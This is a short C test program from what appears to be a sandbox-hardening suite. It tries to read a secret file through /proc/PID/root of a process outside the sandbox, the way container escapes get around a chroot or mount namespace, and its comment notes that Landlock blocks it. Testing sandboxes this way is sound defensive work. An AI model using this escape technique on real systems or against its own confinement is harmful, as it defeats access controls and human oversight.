// proc_root_escape: reach a secret (absolute path argv[2]) through /proc/PID/root of a process
// outside the sandbox (argv[1]), the way container escapes walk around a chroot or mount namespace.
// Stopped by: Landlock (nothing beneath /proc is readable).
#include <fcntl.h>

#include "attack.h"

int main(int argc, char** argv) {
  if (argc != 3) fail_usage(argv[0], "PID SECRET");
  char path[4096];
  snprintf(path, sizeof path, "/proc/%d/root%s", atoi(argv[1]), argv[2]);
  int fd = open(path, O_RDONLY);
  if (fd < 0) blocked_errno("open /proc/PID/root/...", errno);
  char buf[64] = {0};
  if (read(fd, buf, sizeof buf - 1) < 0) blocked_errno("read", errno);
  buf[strcspn(buf, "\n")] = 0;
  succeeded("read \"%s\" through %s", buf, path);
}
